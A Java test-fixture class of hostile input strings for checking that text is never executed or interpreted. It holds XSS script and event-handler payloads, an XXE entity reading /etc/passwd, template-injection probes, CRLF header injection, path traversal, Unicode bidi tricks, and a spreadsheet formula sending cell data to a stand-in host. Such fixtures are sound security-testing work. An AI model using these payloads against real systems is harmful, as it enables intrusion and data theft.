package candor.system;

import java.util.List;

/** Texts that do something wherever they are taken for anything but text. */
final class HostileText {
    /** There can be no such host (RFC 6761): a request to it is one that a text has made. */
    static final String ELSEWHERE = "elsewhere.invalid";

    /** The class of every element that a text would make. */
    static final String MADE = "made-of-text";

    /** What a script in a text would leave behind. */
    static final String RAN = "ranOutOfText";

    /** Short enough for a search. */
    static final String MARKUP = "\"><script>%1$s=1;alert(1)</script><img class=%2$s src=//%3$s/i onerror='%1$s=1'>"
            .formatted(RAN, MADE, ELSEWHERE);

    private static final List<String> PARTS = List.of(
            MARKUP,
            "'\"--></style></title></textarea></pre></bdi></option></svg><b class=%s>".formatted(MADE),
            "<svg class=%1$s onload=%2$s=1><iframe class=%1$s src=\"javascript:alert(1)\"></iframe>"
                    .formatted(MADE, RAN),
            "javascript:%s=1// data:text/html,<script>alert(1)</script>".formatted(RAN),
            "]]><b class=%1$s></b><![CDATA[<b class=%1$s></b>]]>".formatted(MADE),
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e; &lt;b&gt; &amp;lt; &#60;b&#62; <!-- open",
            "#{7*7} ${7*7} #{facesContext.externalContext.session} {{7*7}} <%= 7*7 %> [[${7*7}]] #set($x=7*7)$x",
            "{0} {1,number} {9} '{2}' it''s '{' %s %n %1$s \\u003cb\\u003e \\\" \\",
            "a\u202eb\u202cc \u2067d\u2069 \u2066e \u202b \u0645\u0631\u062d\u0628\u0627 f \u061cg\u200f",
            "Z" + "\u0336\u0489\u0310\u0f75\u20dd".repeat(16),
            "h\u200bi\u200cj\u2060k\ufeffl\u00adm\u034fn",
            "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66 \ud83c\udff3\ufe0f\u200d\ud83c\udf08 \ud83c\uddea\ud83c\uddfa",
            "\u0001\u0008\u000b\u000c\u000e\u001b[31m\u001f\u007f\u0085\u009f\u2028\u2029\ufdd0\ufffe\uffff\udbff\udfff",
            "x.png\"\r\nContent-Type: text/html\r\n\r\n<b class=%s>".formatted(MADE),
            "../../../../etc/passwd ..\\..\\CON C:\\aux.txt /dev/null file.php;.jpg");

    private HostileText() {}

    /** All of it in one, between two marks to find it by. */
    static String everything(String mark) {
        return mark + " " + String.join(" ", PARTS) + " " + mark;
    }

    /** A hundred thousand characters and no place to break a line. */
    static String endless(String mark) {
        return mark + "W".repeat(100_000) + mark;
    }

    /** What a spreadsheet would calculate. */
    static String formula(String mark) {
        return "=HYPERLINK(\"http://%s/\"&A1,\"%s\")".formatted(ELSEWHERE, mark);
    }

    /** As a page can show it: with line feeds alone, and pictures for control characters. */
    static String asRead(String text) {
        StringBuilder read = new StringBuilder();
        for (char each : text.replace("\r\n", "\n").replace('\r', '\n').toCharArray()) {
            boolean control = each < ' ' && each != '\n' && each != '\t';
            read.append(control ? (char) ('\u2400' + each) : each == '\u007f' ? '\u2421' : each);
        }
        return read.toString();
    }
}
